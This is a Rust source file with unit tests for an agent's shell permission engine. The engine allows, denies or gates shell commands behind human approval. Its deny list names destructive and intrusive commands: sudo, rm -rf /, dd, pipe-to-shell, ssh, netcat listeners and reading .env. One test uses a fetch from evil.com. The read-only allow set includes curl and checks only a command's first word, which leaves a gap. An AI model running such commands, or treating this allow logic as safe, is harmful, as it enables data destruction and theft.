//! Shell Permission Engine (C9, §4.9) — decides whether a shell command may
//! run without a human in the loop.
//!
//! Evaluation order is fixed and never configurable per call:
//! 1. the deny rule set (built-in + admin `extra_deny_patterns`) — always wins
//! 2. an existing approval (persistent or session) — allow
//! 3. admin-supplied glob `allow_patterns` — allow
//! 4. the built-in read-only command allow set — allow
//! 5. subcommand rules for `git`/`npm`/`bun`/`node` — allow or require approval
//! 6. default — require approval

use std::collections::HashSet;
use std::sync::{Arc, RwLock};

use regex::{Regex, RegexSet};

use sa_domain::config::ShellPermissionConfig;
use sa_domain::error::Result;
use sa_store::Store;

#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ShellDecision {
    Allow,
    RequireApproval,
    Deny,
}

#[derive(Debug, Clone, serde::Serialize)]
pub struct ShellEvalResult {
    pub decision: ShellDecision,
    pub matched_rule: Option<String>,
    pub reason: Option<String>,
}

impl ShellEvalResult {
    fn allow(rule: &str) -> Self {
        ShellEvalResult {
            decision: ShellDecision::Allow,
            matched_rule: Some(rule.to_string()),
            reason: None,
        }
    }
    fn deny(rule: &str) -> Self {
        ShellEvalResult {
            decision: ShellDecision::Deny,
            matched_rule: Some(rule.to_string()),
            reason: Some(format!("matched deny rule: {rule}")),
        }
    }
    fn require_approval(rule: &str) -> Self {
        ShellEvalResult {
            decision: ShellDecision::RequireApproval,
            matched_rule: Some(rule.to_string()),
            reason: Some(format!("matched rule: {rule}")),
        }
    }
}

#[derive(Debug, Clone, serde::Serialize)]
pub struct ApprovalRecord {
    pub command: String,
    pub persistent: bool,
    pub approved_at: i64,
}

// ━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━
// Fixed rule tables
// ━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━

/// (name, pattern) — checked in order, first match wins. These always win
/// over any allow rule or existing approval.
fn builtin_deny_rules() -> Vec<(&'static str, &'static str)> {
    vec![
        ("sudo", r"(^|\s)sudo(\s|$)"),
        ("su", r"(^|\s)su(\s|$)"),
        ("rm -rf /", r"rm\s+-[a-zA-Z]*r[a-zA-Z]*f[a-zA-Z]*\s+/(\s|$)"),
        ("mkfs", r"(^|\s)mkfs(\.\w+)?(\s|$)"),
        ("dd", r"(^|\s)dd(\s|$)"),
        ("chmod 777 /", r"chmod\s+777\s+/(\s|$)"),
        ("chown root", r"chown\s+root(\s|$|:)"),
        ("eval", r"(^|\s)eval(\s|$)"),
        ("exec", r"(^|\s)exec(\s|$)"),
        ("source", r"(^|\s)source(\s|$)"),
        ("pipe-to-shell", r"\|\s*(sh|bash|zsh)(\s|$)"),
        ("shutdown/reboot/systemctl", r"(^|\s)(shutdown|reboot|systemctl)(\s|$)"),
        ("export *=", r"(^|\s)export\s+\w+="),
        ("ssh", r"(^|\s)ssh(\s|$)"),
        ("cat .env", r"cat\s+\.env"),
        ("nc -l/ncat -l", r"(^|\s)(nc|ncat)\s+(-\w*\s+)*-l"),
    ]
}

/// First-word commands that are always safe to allow (read-only).
const BUILTIN_ALLOW: &[&str] = &[
    "ls", "cat", "head", "tail", "wc", "find", "tree", "du", "df", "grep", "sort", "uniq", "diff",
    "echo", "pwd", "whoami", "hostname", "uname", "date", "uptime", "which", "ping", "curl", "dig",
    "ps",
];

const GIT_READ_SUBCOMMANDS: &[&str] =
    &["status", "log", "diff", "show", "branch", "tag", "remote", "blame", "stash", "ls-files"];

const NODE_LIKE_ALLOW_SUBCOMMANDS: &[&str] =
    &["--version", "-v", "ls", "list", "outdated", "audit", "pm"];

// ━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━
// ShellPermissionEngine
// ━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━

pub struct ShellPermissionEngine {
    config: ShellPermissionConfig,
    store: Option<Arc<Store>>,
    deny_rules: Vec<(&'static str, Regex)>,
    extra_deny: RegexSet,
    allow_patterns: RwLock<Vec<String>>,
    session_approvals: RwLock<HashSet<String>>,
}

impl ShellPermissionEngine {
    pub fn new(config: ShellPermissionConfig, store: Option<Arc<Store>>) -> Self {
        let deny_rules = builtin_deny_rules()
            .into_iter()
            .map(|(name, pat)| (name, Regex::new(pat).expect("builtin deny pattern compiles")))
            .collect();
        let extra_deny = RegexSet::new(&config.extra_deny_patterns).unwrap_or_else(|e| {
            tracing::warn!(error = %e, "invalid extra_deny_patterns, ignoring");
            RegexSet::empty()
        });
        let allow_patterns = RwLock::new(config.allow_patterns.clone());
        ShellPermissionEngine {
            config,
            store,
            deny_rules,
            extra_deny,
            allow_patterns,
            session_approvals: RwLock::new(HashSet::new()),
        }
    }

    /// Evaluate a command string, applying the fixed precedence order.
    pub fn evaluate(&self, command: &str, now: i64) -> ShellEvalResult {
        let trimmed = command.trim();

        if let Some(result) = self.check_deny(trimmed) {
            if self.config.audit_log {
                tracing::warn!(command = trimmed, rule = ?result.matched_rule, "shell command denied");
            }
            return result;
        }

        if self.is_approved(trimmed, now) {
            return ShellEvalResult::allow("approved");
        }

        if self.matches_user_allow_pattern(trimmed) {
            return ShellEvalResult::allow("user allow pattern");
        }

        if let Some(result) = self.check_builtin_and_subcommands(trimmed) {
            return result;
        }

        ShellEvalResult::require_approval("default: not in any allow set")
    }

    fn check_deny(&self, command: &str) -> Option<ShellEvalResult> {
        for (name, re) in &self.deny_rules {
            if re.is_match(command) {
                return Some(ShellEvalResult::deny(name));
            }
        }
        if self.extra_deny.is_match(command) {
            return Some(ShellEvalResult::deny("extra_deny_patterns"));
        }
        None
    }

    fn first_word(command: &str) -> &str {
        command.split_whitespace().next().unwrap_or("")
    }

    fn check_builtin_and_subcommands(&self, command: &str) -> Option<ShellEvalResult> {
        let mut words = command.split_whitespace();
        let program = words.next()?;

        if BUILTIN_ALLOW.contains(&program) {
            return Some(ShellEvalResult::allow("builtin read-only"));
        }

        if program == "git" {
            let sub = words.next().unwrap_or("");
            return Some(if GIT_READ_SUBCOMMANDS.contains(&sub) {
                ShellEvalResult::allow("git read subcommand")
            } else {
                ShellEvalResult::require_approval("git write subcommand")
            });
        }

        if matches!(program, "npm" | "bun" | "node") {
            let sub = words.next().unwrap_or("");
            return Some(if NODE_LIKE_ALLOW_SUBCOMMANDS.contains(&sub) {
                ShellEvalResult::allow("node-like read subcommand")
            } else {
                ShellEvalResult::require_approval("node-like write subcommand")
            });
        }

        None
    }

    fn matches_user_allow_pattern(&self, command: &str) -> bool {
        let patterns = self.allow_patterns.read().unwrap();
        patterns.iter().any(|p| glob_match(p, command))
    }

    fn is_approved(&self, command: &str, _now: i64) -> bool {
        if self.session_approvals.read().unwrap().contains(command) {
            return true;
        }
        if let Some(store) = &self.store {
            if let Ok(Some(_)) = store.get_shell_approval(command) {
                return true;
            }
        }
        false
    }

    // ━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━
    // Maintenance surface
    // ━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━

    /// Approve a command. Dangerous (deny-rule-matching) commands can never
    /// be approved — the deny rules always win regardless of approval state.
    pub fn approve(&self, command: &str, persistent: bool, now: i64) -> Result<()> {
        if self.check_deny(command).is_some() {
            return Err(sa_domain::error::Error::Security(format!(
                "refusing to approve command matching a deny rule: {command}"
            )));
        }
        if persistent {
            if let Some(store) = &self.store {
                store.upsert_shell_approval(command, now)?;
            }
        } else {
            self.session_approvals.write().unwrap().insert(command.to_string());
        }
        Ok(())
    }

    pub fn revoke(&self, command: &str) -> Result<()> {
        self.session_approvals.write().unwrap().remove(command);
        if let Some(store) = &self.store {
            store.revoke_shell_approval(command)?;
        }
        Ok(())
    }

    pub fn clear_session_approvals(&self) {
        self.session_approvals.write().unwrap().clear();
    }

    pub fn add_allow_pattern(&self, pattern: &str) {
        let mut patterns = self.allow_patterns.write().unwrap();
        if !patterns.iter().any(|p| p == pattern) {
            patterns.push(pattern.to_string());
        }
    }

    pub fn remove_allow_pattern(&self, pattern: &str) {
        self.allow_patterns.write().unwrap().retain(|p| p != pattern);
    }

    pub fn list_allow_patterns(&self) -> Vec<String> {
        self.allow_patterns.read().unwrap().clone()
    }

    pub fn list_approvals(&self) -> Result<Vec<ApprovalRecord>> {
        let mut records: Vec<ApprovalRecord> = self
            .session_approvals
            .read()
            .unwrap()
            .iter()
            .map(|c| ApprovalRecord {
                command: c.clone(),
                persistent: false,
                approved_at: 0,
            })
            .collect();
        if let Some(store) = &self.store {
            for a in store.list_shell_approvals()? {
                records.push(ApprovalRecord {
                    command: a.command,
                    persistent: a.persistent,
                    approved_at: a.approved_at,
                });
            }
        }
        Ok(records)
    }
}

/// Minimal `*`-wildcard glob matcher (no `?`, no character classes — the
/// maintenance surface only ever needs simple prefix/suffix/contains globs
/// like `docker *` or `* --dry-run`).
fn glob_match(pattern: &str, text: &str) -> bool {
    let escaped = regex::escape(pattern).replace(r"\*", ".*");
    Regex::new(&format!("^{escaped}$"))
        .map(|re| re.is_match(text))
        .unwrap_or(false)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn engine() -> ShellPermissionEngine {
        ShellPermissionEngine::new(ShellPermissionConfig::default(), None)
    }

    #[test]
    fn s3_ls_is_allowed_via_builtin() {
        let e = engine();
        let r = e.evaluate("ls -la", 0);
        assert_eq!(r.decision, ShellDecision::Allow);
    }

    #[test]
    fn s3_git_push_requires_approval() {
        let e = engine();
        let r = e.evaluate("git push origin main", 0);
        assert_eq!(r.decision, ShellDecision::RequireApproval);
    }

    #[test]
    fn s3_sudo_is_always_denied() {
        let e = engine();
        let r = e.evaluate("sudo ls", 0);
        assert_eq!(r.decision, ShellDecision::Deny);
    }

    #[test]
    fn git_status_is_allowed() {
        let e = engine();
        assert_eq!(e.evaluate("git status", 0).decision, ShellDecision::Allow);
    }

    #[test]
    fn npm_install_requires_approval_but_npm_audit_is_allowed() {
        let e = engine();
        assert_eq!(
            e.evaluate("npm install left-pad", 0).decision,
            ShellDecision::RequireApproval
        );
        assert_eq!(e.evaluate("npm audit", 0).decision, ShellDecision::Allow);
    }

    #[test]
    fn rm_rf_root_is_denied_even_with_allow_pattern() {
        let e = engine();
        e.add_allow_pattern("rm -rf *");
        assert_eq!(e.evaluate("rm -rf /", 0).decision, ShellDecision::Deny);
    }

    #[test]
    fn approval_overrides_default_require_approval() {
        let e = engine();
        assert_eq!(
            e.evaluate("deploy --prod", 0).decision,
            ShellDecision::RequireApproval
        );
        e.approve("deploy --prod", false, 0).unwrap();
        assert_eq!(e.evaluate("deploy --prod", 0).decision, ShellDecision::Allow);
    }

    #[test]
    fn approval_cannot_cover_a_deny_rule_match() {
        let e = engine();
        assert!(e.approve("sudo rm -rf /tmp", false, 0).is_err());
    }

    #[test]
    fn clear_session_approvals_removes_in_memory_approvals() {
        let e = engine();
        e.approve("deploy --prod", false, 0).unwrap();
        e.clear_session_approvals();
        assert_eq!(
            e.evaluate("deploy --prod", 0).decision,
            ShellDecision::RequireApproval
        );
    }

    #[test]
    fn persistent_approval_survives_via_store() {
        let store = Arc::new(Store::open_in_memory().unwrap());
        let e = ShellPermissionEngine::new(ShellPermissionConfig::default(), Some(store.clone()));
        e.approve("docker build .", true, 100).unwrap();
        assert_eq!(e.evaluate("docker build .", 100).decision, ShellDecision::Allow);
        assert_eq!(store.list_shell_approvals().unwrap().len(), 1);
    }

    #[test]
    fn user_glob_allow_pattern_matches() {
        let e = engine();
        e.add_allow_pattern("docker *");
        assert_eq!(e.evaluate("docker build .", 0).decision, ShellDecision::Allow);
    }

    #[test]
    fn extra_deny_pattern_from_config_wins() {
        let config = ShellPermissionConfig {
            extra_deny_patterns: vec!["curl.*evil\\.com".to_string()],
            ..ShellPermissionConfig::default()
        };
        let e = ShellPermissionEngine::new(config, None);
        assert_eq!(
            e.evaluate("curl https://evil.com/payload", 0).decision,
            ShellDecision::Deny
        );
    }
}
